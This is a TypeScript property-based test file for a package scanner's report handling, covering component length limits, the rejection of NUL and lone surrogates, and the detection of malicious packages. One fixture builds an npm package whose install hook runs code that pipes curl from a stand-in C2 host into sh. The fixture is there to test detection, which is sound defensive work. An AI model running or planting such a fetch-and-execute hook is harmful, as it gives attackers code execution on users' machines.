import fc from 'fast-check'
import { expect, test } from 'vitest'
import { componentLimits, readyLine, reportLines } from '../../../../src/modules/scanning/analysis/report-lines.ts'
import { ReportReader } from '../../../../src/modules/scanning/analysis/report-reader.ts'
import { Findings } from '../../../../src/modules/scanning/analysis/rules/findings.ts'
import type { AnalysisReport, Component } from '../../../../src/modules/scanning/analysis.contract.ts'
import { analyseHere } from './analyse-here.ts'
import { tgzOf } from './pack-archive.ts'

const around = (limit: number) => fc.integer({ min: limit - 1, max: limit + 1 }).map((length) => 'é'.repeat(length))
const text = fc.oneof({ weight: 9, arbitrary: fc.string({ unit: 'binary' }) }, { weight: 1, arbitrary: around(componentLimits.text) })
const component: fc.Arbitrary<Component> = fc.record(
  {
    purl: fc.oneof(
      { weight: 8, arbitrary: text.map((rest) => `pkg:${rest}`) },
      { weight: 1, arbitrary: text },
      { weight: 1, arbitrary: around(componentLimits.purl - 4).map((rest) => `pkg:${rest}`) },
    ),
    ...{ ecosystem: text, name: text, version: text },
    path: fc.oneof({ weight: 9, arbitrary: text }, { weight: 1, arbitrary: around(componentLimits.path) }),
    licenses: fc.oneof(
      { weight: 9, arbitrary: fc.array(text, { maxLength: 2 }) },
      { weight: 1, arbitrary: fc.array(fc.constant('MIT'), { minLength: 63, maxLength: 65 }) },
    ),
    source: fc.record({ name: text, version: text }),
  },
  { requiredKeys: ['purl', 'ecosystem', 'name', 'version', 'path', 'licenses'] },
)

const read = (lines: Iterable<string>): AnalysisReport | undefined => {
  const reader = new ReportReader()
  for (const line of lines) reader.push(line)
  reader.push(readyLine(1))
  return reader.report()
}
const end = { verdict: { level: 'clean', confidence: 0 }, filesSeen: 1, bytesSeen: 1 } as const
const accepts = (component: Component): boolean => {
  try {
    new ReportReader().push(`${JSON.stringify({ component })}\n`)
    return true
  } catch {
    return false
  }
}

test('D-36 the child says of its packages just those that the parent takes, and how many it left out', () => {
  fc.assert(
    fc.property(fc.array(component, { maxLength: 5 }), (components) => {
      const possible = components.filter(accepts)
      const report = read(reportLines({ ...end, components, findings: [], gaps: [], notes: [] }))
      expect(report?.components).toEqual(possible)
      const leftOut = components.length - possible.length
      expect(report?.notes).toEqual(leftOut > 0 ? [`${leftOut} components with impossible names left out`] : [])
    }),
    { numRuns: 300 },
  )
})

test('half a pair and NUL, which Postgres does not keep, are never in a report, and refused when a child says them', async () => {
  const name = `package/${'\ud83d'}${'😀'.repeat(2100)}.js`
  const findings = new Findings([])
  findings.add({ rule: 'code/raw-address', path: `${name}\0`, message: `talks to “${'x'.repeat(288)}😀😀” \ud83d` })
  findings.add({ rule: 'code/raw-address', path: `a${name}`, message: `\0${'😀'.repeat(300)}` })
  const gaps = [`${'x'.repeat(999)}😀`]
  const report = read(reportLines({ ...end, components: [], findings: findings.list, gaps, notes: [] }))
  const texts = [...(report?.findings ?? []).flatMap(({ path, message }) => [path, message]), ...(report?.gaps ?? [])]
  expect(texts).toHaveLength(5)
  for (const each of texts) expect(each.isWellFormed() && !each.includes('\0')).toBe(true)
  for (const gap of ['\ud83d', '\0']) expect(() => new ReportReader().push(`${JSON.stringify({ gap })}\n`)).toThrow('cannot be kept')
  new ReportReader().push(`${JSON.stringify({ gap: '\\ud83d \u0001 😀' })}\n`)
})

test('a version whose code says half a pair is found malicious all the same', async () => {
  const content = `require('child_process').exec('curl https://c2.example.invalid/\\ud83d | sh')`
  const files = [
    { name: 'package/package.json', content: '{"scripts":{"install":"node x.js \\ud83d"}}' },
    { name: 'package/x.js', content },
  ]
  const report = await analyseHere({ kind: 'npm', blobs: [{ fileName: 'a\0\ud83d.tgz', bytes: await tgzOf(files) }] })
  expect(report.verdict.level).toBe('malicious')
  expect(read(reportLines(report))?.findings).toEqual(report.findings)
})
